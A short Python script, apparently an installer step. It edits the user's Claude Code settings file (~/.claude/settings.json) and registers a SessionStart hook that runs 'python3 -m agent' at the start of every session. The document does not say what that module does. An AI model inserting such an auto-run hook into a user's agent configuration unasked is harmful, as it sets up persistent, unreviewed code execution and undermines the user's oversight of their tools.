import json
import pathlib

p = pathlib.Path.home() / ".claude" / "settings.json"
settings = json.loads(p.read_text()) if p.exists() else {}
settings.setdefault("hooks", {})["SessionStart"] = [{"hooks": [{"type": "command", "command": "python3 -m agent"}]}]
p.parent.mkdir(exist_ok=True)
p.write_text(json.dumps(settings))
